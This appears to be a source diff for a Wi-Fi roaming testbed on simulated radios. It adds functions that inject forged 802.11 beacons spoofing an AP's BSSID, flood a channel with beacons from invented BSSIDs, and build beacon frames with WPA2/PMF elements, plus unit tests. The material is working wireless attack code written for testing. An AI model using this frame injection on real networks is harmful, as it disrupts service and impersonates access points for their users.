@@ -10,6 +10,8 @@ use std::{
 
 use anyhow::{bail, Context as _, Result};
 
+use roam_testbed::scenario::Security;
+
 use super::{hwsim::Radio, paths, process};
 
 /// The smallest radiotap header: version 0, length 8, no fields (the driver picks the rate).
@@ -84,6 +86,82 @@ impl Attacker {
         Ok(())
     }
 
+    /// Beacons in `beacon`'s name on `channel`, `per_second` of them for `duration`: a forged
+    /// AP (another's BSSID with another interval, or a BSS nobody serves).
+    pub fn forge_beacons(
+        &mut self,
+        channel: u8,
+        beacon: &ForgedBeacon,
+        per_second: u32,
+        duration: Duration,
+    ) -> Result<u64> {
+        let mut tuned = None;
+        self.tune(channel, &mut tuned)?;
+        let bssid = parse_mac(&beacon.bssid)?;
+        self.paced(per_second, duration, |attacker| {
+            let frame = beacon_frame(bssid, beacon, channel, attacker.sequence);
+            attacker.sequence = (attacker.sequence + 1) & 0x0fff;
+            attacker.inject(&frame)
+        })
+    }
+
+    /// Beacons of `per_second` BSSIDs never heard before each second for `duration`, all of
+    /// `ssid` (a flood of invented BSSes): returns how many went out.
+    pub fn beacon_flood(
+        &mut self,
+        channel: u8,
+        ssid: &str,
+        security: Security,
+        per_second: u32,
+        duration: Duration,
+    ) -> Result<u64> {
+        let mut tuned = None;
+        self.tune(channel, &mut tuned)?;
+        let mut random = XorShift(0x9e37_79b9_7f4a_7c15);
+        self.paced(per_second, duration, |attacker| {
+            let beacon = ForgedBeacon {
+                bssid: String::new(),
+                ssid: ssid.to_owned(),
+                interval_tu: 100,
+                security,
+            };
+            let frame = beacon_frame(random.bssid(), &beacon, channel, attacker.sequence);
+            attacker.sequence = (attacker.sequence + 1) & 0x0fff;
+            attacker.inject(&frame)
+        })
+    }
+
+    /// Runs `send` `per_second` times a second, evenly, for `duration`; returns the count.
+    fn paced(
+        &mut self,
+        per_second: u32,
+        duration: Duration,
+        mut send: impl FnMut(&mut Attacker) -> Result<()>,
+    ) -> Result<u64> {
+        let start = std::time::Instant::now();
+        let per_second = u64::from(per_second.max(1));
+        let mut sent = 0u64;
+        while start.elapsed() < duration {
+            send(self)?;
+            sent += 1;
+            // The schedule, not a fixed sleep: a slow send is caught up on.
+            let due = Duration::from_nanos(sent * 1_000_000_000 / per_second);
+            if let Some(wait) = due.checked_sub(start.elapsed()) {
+                thread::sleep(wait);
+            }
+        }
+        Ok(sent)
+    }
+
+    fn tune(&mut self, channel: u8, tuned: &mut Option<u8>) -> Result<()> {
+        if *tuned != Some(channel) {
+            let channel_text = channel.to_string();
+            process::run(paths::IW, &["dev", &self.iface, "set", "channel", &channel_text])?;
+            *tuned = Some(channel);
+        }
+        Ok(())
+    }
+
     /// One frame, on `channel`; a full queue (the air is saturated) is waited out, so every
     /// frame counted goes out.
     fn send_deauth(
@@ -94,13 +172,14 @@ impl Attacker {
         bssid: [u8; 6],
         reason: u16,
     ) -> Result<()> {
-        if *tuned != Some(channel) {
-            let channel_text = channel.to_string();
-            process::run(paths::IW, &["dev", &self.iface, "set", "channel", &channel_text])?;
-            *tuned = Some(channel);
-        }
+        self.tune(channel, tuned)?;
         let frame = deauth_frame(station, bssid, reason, self.sequence);
         self.sequence = (self.sequence + 1) & 0x0fff;
+        self.inject(&frame)
+    }
+
+    /// Injects one frame; a full queue (the air is saturated) is waited out.
+    fn inject(&mut self, frame: &[u8]) -> Result<()> {
         loop {
             // SAFETY: write(2) of an initialised buffer on our socket.
             let sent =
@@ -114,6 +193,61 @@ impl Attacker {
             }
             thread::sleep(Duration::from_millis(1));
         }
+    }
+}
+
+/// What a forged beacon claims.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct ForgedBeacon {
+    pub bssid: String,
+    pub ssid: String,
+    pub interval_tu: u16,
+    pub security: Security,
+}
+
+/// Radiotap + a beacon from `bssid` as `beacon` describes it (SSID, rates, channel, and the RSN
+/// element of WPA2-PSK, with management frame protection required for `Wpa2PskPmf`). Pure.
+pub fn beacon_frame(bssid: [u8; 6], beacon: &ForgedBeacon, channel: u8, sequence: u16) -> Vec<u8> {
+    const ESS: u16 = 0x0001;
+    const PRIVACY: u16 = 0x0010;
+    let protected = beacon.security != Security::Open;
+    let mut frame = RADIOTAP.to_vec();
+    frame.extend([0x80, 0x00, 0x00, 0x00]); // frame control (beacon), duration
+    frame.extend([0xff; 6]); // addr1: broadcast
+    frame.extend(bssid); // addr2: transmitter
+    frame.extend(bssid); // addr3: BSSID
+    frame.extend((sequence << 4).to_le_bytes());
+    frame.extend([0u8; 8]); // timestamp
+    frame.extend(beacon.interval_tu.to_le_bytes());
+    frame.extend((ESS | if protected { PRIVACY } else { 0 }).to_le_bytes());
+    frame.push(0); // SSID
+    frame.push(beacon.ssid.len() as u8);
+    frame.extend(beacon.ssid.as_bytes());
+    frame.extend([1, 8, 0x82, 0x84, 0x8b, 0x96, 0x0c, 0x12, 0x18, 0x24]); // supported rates
+    frame.extend([3, 1, channel]); // DS parameter set
+    if protected {
+        let pmf = beacon.security == Security::Wpa2PskPmf;
+        let akm = if pmf { 6 } else { 2 }; // PSK-SHA256 or PSK
+        let capabilities: u16 = if pmf { 0x00c0 } else { 0 }; // MFPR | MFPC
+        frame.extend([48, 20, 1, 0]); // RSN, version 1
+        frame.extend([0x00, 0x0f, 0xac, 4]); // group: CCMP
+        frame.extend([1, 0, 0x00, 0x0f, 0xac, 4]); // pairwise: CCMP
+        frame.extend([1, 0, 0x00, 0x0f, 0xac, akm]);
+        frame.extend(capabilities.to_le_bytes());
+    }
+    frame
+}
+
+/// Locally administered unicast BSSIDs that no AP of the testbed has (`02:..` are theirs).
+struct XorShift(u64);
+
+impl XorShift {
+    fn bssid(&mut self) -> [u8; 6] {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        let b = self.0.to_le_bytes();
+        [0x06, b[0], b[1], b[2], b[3], b[4]]
     }
 }
 
@@ -156,5 +290,42 @@ mod tests {
         assert_eq!(&frame[32..34], &[7, 0]);
         assert_eq!(parse_mac("02:00:00:00:02:00").unwrap(), sta);
         assert!(parse_mac("02:00").is_err());
+    }
+
+    #[test]
+    fn a_forged_beacon_says_what_it_claims() {
+        let ap = [2, 0, 0, 0, 0, 0];
+        let beacon = ForgedBeacon {
+            bssid: "02:00:00:00:00:00".into(),
+            ssid: "roam-testbed".into(),
+            interval_tu: 1,
+            security: Security::Wpa2PskPmf,
+        };
+        let frame = beacon_frame(ap, &beacon, 6, 1);
+        let body = &frame[8..];
+        assert_eq!(body[0], 0x80, "beacon");
+        assert_eq!(&body[4..10], &[0xff; 6]);
+        assert_eq!(&body[10..16], &ap);
+        assert_eq!(&body[32..34], &[1, 0], "1 TU");
+        assert_eq!(&body[34..36], &[0x11, 0x00], "ESS, privacy");
+        assert_eq!(&body[36..38], &[0, 12]);
+        assert_eq!(&body[38..50], b"roam-testbed");
+        let rsn = &body[body.len() - 22..];
+        assert_eq!(&rsn[..4], &[48, 20, 1, 0]);
+        assert_eq!(rsn[19], 6, "PSK-SHA256");
+        assert_eq!(&rsn[20..22], &[0xc0, 0x00], "PMF required");
+        let open = ForgedBeacon { security: Security::Open, ..beacon };
+        let frame = beacon_frame(ap, &open, 6, 1);
+        assert_eq!(&frame[8 + 34..8 + 36], &[0x01, 0x00], "ESS only");
+        assert_eq!(&frame[frame.len() - 3..], &[3, 1, 6], "ends with the channel, no RSN");
+    }
+
+    #[test]
+    fn flooded_bssids_are_new_and_never_a_testbed_aps() {
+        let mut random = XorShift(1);
+        let bssids: std::collections::HashSet<[u8; 6]> =
+            (0..1000).map(|_| random.bssid()).collect();
+        assert_eq!(bssids.len(), 1000);
+        assert!(bssids.iter().all(|b| b[0] == 0x06));
     }
 }
